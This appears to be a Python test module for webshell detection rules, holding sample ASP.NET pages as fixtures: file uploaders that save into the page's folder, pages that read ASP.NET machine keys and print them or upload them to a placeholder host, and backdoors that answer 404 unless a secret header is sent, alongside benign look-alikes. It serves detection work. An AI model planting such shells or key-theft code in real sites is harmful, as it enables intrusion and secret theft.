"""Rules written from the fifth unseen collection (issue 14, helper X5): harmless reproductions.

The two shells the own rules missed on first sight were minimal uploaders that save the posted file
under the client's own name in the page's folder, with the path first built in a variable
(``p = Server.MapPath("./") + name; up.SaveAs(p)``) or relative to the page (``SaveAs("./" + name)``).
The pages below have that code shape (and the benign ones the shapes of ordinary upload pages), are
written for these tests, write only ``example.txt``-style names and are never run. They are not copies
of real shells.
"""

from __future__ import annotations

from .rule_tables import rule_tables

RULE = "EXT_WEBSHELL_Uploader_Into_Page_Folder"

# (id, extension, page): each must be flagged by RULE
SHELLS: list[tuple[str, str, str]] = [
    (
        "cs-path-in-variable",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Send(object s, EventArgs e) {\n"
        "    if (Up.HasFile) {\n"
        "        string name = System.IO.Path.GetFileName(Up.FileName);\n"
        '        string target = Server.MapPath("./") + name;\n'
        "        Up.SaveAs(target);\n    }\n}\n</script>\n"
        '<form runat="server"><asp:FileUpload ID="Up" runat="server" /></form>',
    ),
    (
        "cs-relative-to-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Send(object s, EventArgs e) {\n"
        "    string n = System.IO.Path.GetFileName(Up.FileName);\n"
        '    Up.SaveAs("./" + n);\n}\n</script>\n'
        '<form runat="server"><asp:FileUpload ID="Up" runat="server" /></form>',
    ),
    (
        "vb-page-folder-separator",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Send(s As Object, e As EventArgs)\n"
        '    Dim p As String = Server.MapPath(".") & "\\" & Up.PostedFile.FileName\n'
        "    Up.PostedFile.SaveAs(p)\nEnd Sub\n</script>",
    ),
    (
        "cs-handler-app-root",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
        "public class H : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext c) {\n"
        "        HttpPostedFile f = c.Request.Files[0];\n"
        "        string t = System.AppDomain.CurrentDomain.BaseDirectory + System.IO.Path.GetFileName(f.FileName);\n"
        "        f.SaveAs(t);\n    }\n    public bool IsReusable { get { return false; } }\n}",
    ),
]

# (id, extension, page): ordinary upload pages and near shapes that must NOT be flagged by RULE
BENIGN: list[tuple[str, str, str]] = [
    (
        "upload-into-own-folder",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Send(object s, EventArgs e) {\n"
        "    if (Up.HasFile) {\n"
        "        string name = System.IO.Path.GetFileName(Up.FileName);\n"
        '        Up.SaveAs(Server.MapPath("~/uploads/") + name);\n    }\n}\n</script>',
    ),
    (
        "upload-renamed",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Send(object s, EventArgs e) {\n"
        "    string ext = System.IO.Path.GetExtension(Up.FileName);\n"
        '    string target = Server.MapPath("~/App_Data/") + System.Guid.NewGuid().ToString("N") + ext;\n'
        "    Up.SaveAs(target);\n}\n</script>",
    ),
    (
        "upload-subfolder-after-root",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Send(object s, EventArgs e) {\n"
        '    string target = Server.MapPath("./") + "docs/" + System.IO.Path.GetFileName(Up.FileName);\n'
        "    Up.SaveAs(target);\n}\n</script>",
    ),
    (
        "read-beside-page-no-upload",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    string name = "example.txt";\n'
        '    Out.Text = System.IO.File.ReadAllText(Server.MapPath("./") + name);\n}\n</script>',
    ),
]


# --- machine-key theft (third batch of the fifth collection: the two first-sight misses) -------------
# Pages that read the ASP.NET machine keys and hand them over (ToolShell-style). Written for these
# tests: they print or send placeholder text to example.invalid and are never run.
KEY_RULE = "EXT_WEBSHELL_MachineKey_Theft"

KEY_SHELLS: list[tuple[str, str, str]] = [
    (
        "reflection-getter-to-response",
        ".aspx",
        '<script runat="server" language="c#">\n'
        "public void Page_Load() {\n"
        '    var t = typeof(System.Web.HttpContext).Assembly.GetType("System.Web.Configuration.MachineKeySection");\n'
        '    var m = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | '
        "System.Reflection.BindingFlags.NonPublic);\n"
        "    var c = (System.Web.Configuration.MachineKeySection)m.Invoke(null, null);\n"
        '    Response.Write(c.ValidationKey + "|" + c.DecryptionKey);\n}\n</script>',
    ),
    (
        "config-section-sent-out",
        ".aspx",
        "<% var s = (System.Web.Configuration.MachineKeySection)System.Web.Configuration.WebConfigurationManager"
        '.GetSection("system.web/machineKey");\n'
        '   string v = s.ValidationKey + ";" + s.DecryptionKey;\n'
        '   new System.Net.WebClient().UploadString("http://example.invalid/k", v); %>',
    ),
    (
        "vb-keys-in-expression",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<% Dim k As MachineKeySection = CType(WebConfigurationManager.GetSection("system.web/machineKey"), '
        "MachineKeySection) %>\n<%= k.ValidationKey %>/<%= k.DecryptionKey %>",
    ),
]

KEY_BENIGN: list[tuple[str, str, str]] = [
    (
        "autogenerate-check",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    var mk = (System.Web.Configuration.MachineKeySection)System.Web.Configuration.WebConfigurationManager"
        '.GetSection("system.web/machineKey");\n'
        '    if (mk.ValidationKey.Contains("AutoGenerate")) Response.Write("Set fixed machine keys first.");\n'
        "}\n</script>",
    ),
    (
        "key-generator-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "string Hex(int n) { var b = new byte[n];\n"
        "    System.Security.Cryptography.RandomNumberGenerator.Create().GetBytes(b);\n"
        '    return System.BitConverter.ToString(b).Replace("-", ""); }\n</script>\n'
        '<pre>&lt;machineKey validationKey="<%= Hex(64) %>" decryptionKey="<%= Hex(32) %>" /&gt;</pre>',
    ),
    (
        "membership-provider-code-file",
        ".cs",
        "public class P : System.Web.Security.MembershipProvider {\n"
        "    System.Web.Configuration.MachineKeySection machineKey;\n"
        "    byte[] K() { return HexToByte(machineKey.ValidationKey + machineKey.DecryptionKey); }\n"
        '    void Log(System.Web.HttpContext c) { c.Response.Write("ok"); }\n}',
    ),
]


# --- backdoor behind a decoy 404 (LEMURLOOT-style; the first-sight miss of the last page added) --------
# Pages that answer "not found" unless a request header carries a hard-coded secret, then hand out data.
# Written for these tests: placeholder secrets and tables, never run.
GATE_RULE = "EXT_WEBSHELL_Secret_Header_Decoy_404"

GATE_SHELLS: list[tuple[str, str, str]] = [
    (
        "cs-guid-header-then-sql",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    var k = Request.Headers["X-Example-Token"];\n'
        '    if (!String.Equals(k, "00000000-1111-2222-3333-444455556666")) { Response.StatusCode = 404; return; }\n'
        '    var q = "select name, size from items where owner = 1";\n'
        "    Response.Write(Lookup(q));\n}\n</script>",
    ),
    (
        "cs-key-then-stream",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    if (Request.Headers.Get("X-K") != "example2key9") { Response.StatusCode = 404; return; }\n'
        '    using (var f = System.IO.File.OpenRead(Server.MapPath("~/App_Data/example.txt")))\n'
        "    using (var z = new System.IO.Compression.GZipStream(Response.OutputStream, "
        "System.IO.Compression.CompressionMode.Compress)) { f.CopyTo(z); }\n}\n</script>",
    ),
    (
        "vb-key-then-secret-header",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '    If Request.Headers("X-K") <> "example7secret" Then\n'
        "        Response.StatusCode = 404 : Response.End()\n    End If\n"
        '    Response.AppendHeader("StorageKey", Settings.StorageKey)\nEnd Sub\n</script>',
    ),
]

GATE_BENIGN: list[tuple[str, str, str]] = [
    (
        "api-key-refused-with-401",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    if (Request.Headers["X-Api-Key"] != "example2key9") { Response.StatusCode = 401; return; }\n'
        '    Response.Write(Lookup("select name from items"));\n}\n</script>',
    ),
    (
        "ajax-only-endpoint",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    if (Request.Headers["X-Requested-With"] != "XMLHttpRequest") { Response.StatusCode = 404; return; }\n'
        '    Response.Write(Lookup("select name from items"));\n}\n</script>',
    ),
    (
        "custom-not-found-page-logging",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    Response.StatusCode = 404;\n"
        '    Log("insert into misses (url, referrer) values (@u, @r)", Request.RawUrl, Request.Headers["Referer"]);\n'
        "}\n</script>",
    ),
]


# --- each rule above: its shells found, its benign shapes not, a log quoting a shell is not a page ---
CASES = ((RULE, SHELLS, BENIGN), (KEY_RULE, KEY_SHELLS, KEY_BENIGN), (GATE_RULE, GATE_SHELLS, GATE_BENIGN))
test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES, log_url="/up.aspx")
